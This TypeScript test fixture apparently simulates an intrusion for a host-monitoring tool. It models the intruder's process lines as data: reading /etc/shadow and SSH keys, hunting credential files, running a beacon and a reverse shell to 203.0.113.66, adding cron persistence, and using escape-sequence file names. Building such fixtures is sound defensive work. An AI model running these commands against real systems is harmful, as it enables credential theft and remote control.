import type { Endpoint } from "#model/event";
import { countTry } from "#state/activity";
import { callerOf } from "#state/callers";
import type { PeerState, State } from "#state/state";
import { text } from "./events.ts";
import { ago, FIXTURE_NOW, FixtureState, judge } from "./fixture-state.ts";

const RU: Endpoint = {
  ip: "185.220.101.47",
  port: 51234,
  geo: { country_iso_code: "RU", country_name: "Russia", city_name: "Saint Petersburg" },
  as: { number: 12389, organization: { name: "Rostelecom" } },
};
const CN: Endpoint = {
  ip: "203.0.113.66",
  port: 443,
  geo: { country_iso_code: "CN", country_name: "China", city_name: "Guangzhou" },
  as: { number: 4134, organization: { name: "Chinanet" } },
};

/** The demo night: an intruder from abroad, two tagged responders, a console login, a beacon, dropped binaries, hostile names. */
export function nightState(): State {
  const f = new FixtureState();
  const { state } = f;
  const init = f.process(1, undefined, "/usr/lib/systemd/systemd", { baseline: true, start: ago(90_000), name: text("systemd") });
  const kernel = f.process(2, undefined, "[kthreadd]", { baseline: true, start: ago(90_000) });
  for (let i = 0; i < 64; i++) f.process(10 + i, kernel, `[kworker/${i % 4}:${i}]`, { baseline: true, start: ago(90_000) });
  const service = (pid: number, line: string) => f.process(pid, init, line, { baseline: true, start: ago(89_000 - pid) });
  const sshd = service(690, "/usr/sbin/sshd -D");
  const cron = service(701, "/usr/sbin/cron -f");
  for (const [i, line] of [
    "/usr/lib/systemd/systemd-journald",
    "/usr/lib/systemd/systemd-udevd",
    "/usr/sbin/rsyslogd -n -iNONE",
    "/usr/bin/dbus-daemon --system --address=systemd: --nofork",
    "/usr/lib/systemd/systemd-logind",
    "/usr/sbin/nginx -g daemon on; master_process on;",
  ].entries())
    service(610 + i * 7, line);
  const nginx = state.pids.get(645) as string;
  for (let i = 0; i < 4; i++) f.process(646 + i, nginx, "nginx: worker process", { baseline: true, start: ago(88_000) });

  const intruder = f.login(4711, sshd, "root", RU, { start: ago(388), active: ago(4), ttys: ["136:1"] });
  const shell = f.process(4715, f.process(4714, intruder, "sshd: root@pts/1", { start: ago(388), active: ago(4) }), "-bash", {
    start: ago(387),
    active: ago(4),
    tty: "136:1",
  });
  const done = (pid: number, line: string, start: number, took = 0.2) =>
    f.process(pid, shell, line, { start: ago(start), end: ago(start - took), active: ago(start - took) });
  for (let i = 0; i < 14; i++) done(4720 + i, `/usr/bin/ls -la /home/dev${i % 3}`, 360 - i * 6);
  for (const [i, line] of [
    "/usr/bin/id",
    "/usr/bin/w",
    "/usr/bin/ss -tnp",
    "/usr/bin/cat /etc/shadow",
    "/usr/bin/cat /root/.ssh/id_ed25519",
    "/usr/bin/cat /home/dev0/.ssh/authorized_keys",
    "/usr/bin/chmod +x /tmp/.kx9fq2vz",
  ].entries())
    done(4740 + i, line, 300 - i * 12);
  done(4751, "/usr/bin/find / -xdev -name id_rsa -o -name id_ed25519 -o -name *.pem -o -name .git-credentials -o -name kubeconfig", 280, 9);
  const beacon = f.process(4802, shell, "/tmp/.kx9fq2vz --connect 203.0.113.66:443 --interval 5 --jitter 0.2 --key 9f2c77e1ab", {
    start: ago(150),
    active: ago(4),
    cwd: text("/tmp"),
  });
  const reverse = f.process(4811, shell, "/dev/shm/qzjw81xk 203.0.113.66 4444", {
    start: ago(132),
    active: ago(30),
    cwd: text("/dev/shm"),
  });
  const hidden = f.process(4820, reverse, "/bin/sh -i", { start: ago(131), active: ago(26) });
  f.process(4831, hidden, "/tmp/\u001b[2J\u001b]0;owned\u0007\u202egnp.exe 日本語のファイル 🚀 --quiet", {
    start: ago(26),
    active: ago(26),
  });
  f.process(4840, shell, "/usr/bin/crontab -", { start: ago(110), end: ago(110), active: ago(110) });
  const relaunched = f.process(
    4902,
    f.process(
      4901,
      f.process(4900, cron, "/usr/sbin/CRON -f", { start: ago(42), active: ago(41) }),
      "/bin/sh -c /tmp/.kx9fq2vz --connect 203.0.113.66:443",
      { start: ago(42), active: ago(41) },
    ),
    "/tmp/.kx9fq2vz --connect 203.0.113.66:443",
    { start: ago(41), active: ago(9) },
  );

  f.login(1402, init, "dev0", undefined, { start: ago(7200), active: ago(1800), ttys: ["4:1"] });
  f.process(1410, "boot-1:1402:1402", "-bash", { start: ago(7200), active: ago(1800), tty: "4:1" });

  const responder = (pid: number, ip: string, tag: string, ours: boolean) => {
    const login = f.login(pid, sshd, "root", { ip, port: 50_022 }, { standing: "responder", tag, ours, start: ago(500), ttys: ["136:0"] });
    const bash = f.process(pid + 1, login, "-bash", { start: ago(499) });
    for (let i = 0; i < 48; i++)
      f.process(pid + 2 + i, bash, ["/usr/bin/ps auxf", "/usr/bin/lsof -i", "/usr/bin/tail -n 50 /var/log/auth.log"][i % 3] as string, {
        start: ago(400 - i),
        end: ago(399 - i),
      });
    state.tags.set(tag, {
      id: tag,
      verdict: "responder",
      selector: { login },
      reason: "our triage",
      analyst: "jm",
      applied: ago(300),
      sequence: state.tags.size,
    });
    f.connection(
      login,
      { ip, port: 50_022 },
      { direction: "ingress", source: { ip, port: 50_022 }, destination: { ip: "10.0.4.17", port: 22 }, start: ago(500) },
    );
    return bash;
  };
  const ours = responder(3000, "10.0.4.2", "t1", true);
  responder(3100, "10.0.4.3", "t2", false);
  f.binary("/root/.cache/collector-probe", { writer: ours, standing: "responder", size: 912 });

  f.connection(intruder, RU, { direction: "ingress", source: RU, destination: { ip: "10.0.4.17", port: 22 }, start: ago(388) });
  for (let i = 0; i < 12; i++)
    f.connection(beacon, CN, {
      start: ago(150 - i * 12),
      ...(i < 11 ? { end: ago(149 - i * 12), phase: "ended", outcome: "success" } : { phase: "attempt", start: ago(4) }),
    });
  f.connection(reverse, { ...CN, port: 4444 }, { start: ago(131) });
  f.connection(relaunched, CN, { start: ago(9), phase: "ended", end: ago(8), outcome: "failure" });
  f.connection(
    nginx,
    { ip: "0.0.0.0" },
    { direction: "ingress", phase: "listening", source: { ip: "0.0.0.0", port: 80 }, start: ago(88_000) },
  );
  f.connection(sshd, { ip: "::" }, { direction: "ingress", phase: "listening", source: { ip: "::", port: 22 }, start: ago(88_000) });
  f.connection(nginx, { ip: "10.0.4.30", port: 5432 }, { start: ago(3600) });
  state.peers.set(`${CN.ip} 443`, {
    ip: CN.ip,
    port: 443,
    attempts: 31,
    established: 29,
    first: ago(150),
    last: ago(4),
    tries: tries(150, 4, 31),
    caller: callerOf(state.processes.get(beacon)),
    callers: new Map([
      [callerOf(state.processes.get(beacon)), { attempts: 30, tries: tries(150, 4, 30) }],
      [callerOf(state.processes.get(relaunched)), { attempts: 1, tries: tries(9, 9, 1) }],
    ]),
  });
  busy(state, "login", intruder, 388, (i) => [3, 1, 0, 4, 2, 0, 0, 1][i % 8] as number);
  busy(state, "login", "boot-1:3000:3000", 500, (i) => [6, 9, 2, 0][i % 4] as number);
  busy(state, "login", "boot-1:3100:3100", 300, (i) => (i < 40 ? 4 : 0));
  busy(state, "services", undefined, 531, (i) => (i % 15 === 0 ? 2 : 0));

  const sha = (c: string) => c.repeat(64);
  f.binary("/tmp/.kx9fq2vz", {
    writer: shell,
    runners: [beacon, relaunched],
    runs: 7,
    size: 18_432,
    mode: "0755",
    sha256: `9c41f0d2be77${sha("a")}`.slice(0, 64),
    elf: true,
    random: 0.93,
    first: ago(160),
  });
  f.binary("/dev/shm/qzjw81xk", {
    writer: shell,
    runners: [reverse],
    runs: 1,
    size: 9120,
    sha256: `e07b55c1f3aa${sha("b")}`.slice(0, 64),
    elf: true,
    random: 0.88,
    deleted: true,
    first: ago(134),
  });
  f.binary("/tmp/\u001b[31mfree\u202e日本.so", { writer: shell, size: 1_204_224, elf: true, random: 0.2, first: ago(27) });
  f.binary("/var/spool/cron/crontabs/root", {
    writer: shell,
    size: 61,
    sha256: `03aa91bb7e1c${sha("c")}`.slice(0, 64),
    first: ago(110),
    mode: "0600",
  });

  const reach = (process: string, seconds: number) =>
    new Map([[intruder, { who: intruder, process, uid: 0, first: ago(seconds), last: ago(seconds), times: 1 }]]);
  state.touched.uids.set(intruder, [0]);
  state.touched.secrets.set("/etc/shadow", {
    path: text("/etc/shadow"),
    kind: "password",
    uid: 0,
    mode: "0640",
    size: 911,
    by: reach(shell, 310),
  });
  state.touched.secrets.set("/home/dev/.ssh/id_ed25519", {
    path: text("/home/dev/.ssh/id_ed25519"),
    kind: "key",
    fingerprint: "SHA256:3p1gVw0nQkq1yY7p2m0kXw9d8s4cB6tZ5rE1aF2hJ3L",
    cipher: text("none"),
    uid: 1000,
    mode: "0600",
    size: 411,
    by: new Map(),
  });
  state.touched.secrets.set("/home/dev/.ssh/known_hosts", {
    path: text("/home/dev/.ssh/known_hosts"),
    kind: "hosts",
    hosts: ["db01.corp.example", "git.corp.example"].map(text),
    uid: 1000,
    mode: "0600",
    by: new Map(),
  });
  state.touched.hosts.set("203.0.113.66 443", {
    ip: CN.ip,
    port: 443,
    endpoint: { ...CN, port: 443 },
    established: 29,
    by: reach(beacon, 4),
  });
  state.findings.set("f1", {
    id: "f1",
    rule: "tagged-process-traced",
    title: "a tagged process was traced (ptrace)",
    level: "high",
    technique: ["T1055.008"],
    entities: [shell, "boot-1:3101:3101"],
    at: ago(33),
    sequence: 1,
  });

  state.sensors.set("linux", {
    id: "linux",
    tier: "tracefs+proc",
    status: "running",
    since: ago(530),
    report: {
      received: 18_377,
      lost: 0,
      raced: 3,
      outside: 120,
      kernel_buffer: 4 << 20,
      pids: "mapped",
      blind: [
        "UDP and ICMP are not seen between snapshots",
        "files outside /tmp, /dev/shm, /var/tmp, home and cron folders are not watched",
      ],
    },
  });
  judge(state, intruder, "unknown");
  return state;
}

/** The night on a busy machine: `total` processes below services and logins, for measurements. */
export function busyState(total = 5000): State {
  const state = nightState();
  const f = new FixtureState();
  Object.assign(f.state, state);
  const parents = [...state.processes.keys()].filter(
    (id) => state.processes.get(id)?.standing === "unknown" && !id.startsWith("boot-1:2:"),
  );
  for (let pid = 10_000; state.processes.size < total; pid++) {
    const parent = parents[(pid * 7919) % parents.length] as string;
    const id = f.process(pid, parent, `/usr/bin/python3 /opt/app/run.py --port ${8000 + (pid % 900)} --worker 日本語 ${pid}`, {
      start: ago(3600 - (pid % 3600)),
    });
    if (pid % 3 === 0) parents.push(id);
  }
  return f.state;
}

/** Attempts spread evenly between two moments, seconds ago. */
function tries(from: number, to: number, times: number): PeerState["tries"] {
  let series: PeerState["tries"] | undefined;
  for (let i = 0; i < times; i++) series = countTry(series, ago(from - ((from - to) * i) / (times - 1)));
  return series as PeerState["tries"];
}

/** What somebody did since so many seconds ago, in stretches of four seconds. */
function busy(state: State, kind: "login" | "services", login: string | undefined, since: number, times: (i: number) => number): void {
  const { activity } = state;
  activity.width = 4000;
  activity.first = Math.floor(ago(531) / activity.width);
  const first = Math.floor(ago(since) / activity.width);
  const counts = Array.from({ length: Math.floor(FIXTURE_NOW / activity.width) - first }, (_, i) => times(i));
  activity.sources.set(`${kind} ${login ?? ""} `, { kind, ...(login === undefined ? {} : { login }), first, counts });
}
